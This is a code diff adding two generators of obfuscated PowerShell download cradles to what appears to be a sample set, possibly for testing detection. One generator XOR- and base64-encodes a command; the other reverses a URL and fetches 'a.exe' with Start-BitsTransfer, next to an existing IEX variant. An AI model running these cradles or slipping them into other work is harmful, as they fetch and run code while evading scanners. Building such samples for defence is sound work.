@@ -130,6 +130,16 @@ def xor() -> str:
     return f"IEX (({numbers}) | %{{[char]($_ -bxor {key})}} | Out-String)"
 
 
+def xor_by_variable() -> str:
+    key = 35
+    hidden = _base64(bytes(ord(letter) ^ key for letter in CRADLE))
+    return f"$k = 0x{key:x}; $b = [Convert]::FromBase64String('{hidden}')\r\n$b | % {{ [char]($_ -bxor $k) }}\r\n"
+
+
+def reversal_of_variable() -> str:
+    return f"$u = '{ADDRESS[::-1]}'\r\nStart-BitsTransfer (-join $u[-1..-($u.Length)]) a.exe\r\n"
+
+
 SCRIPTS = {
     make.__name__.replace("_", " "): make
     for make in (
@@ -155,6 +165,8 @@ SCRIPTS = {
         shell_pipe,
         five_layers,
         xor,
+        xor_by_variable,
+        reversal_of_variable,
     )
 }
 
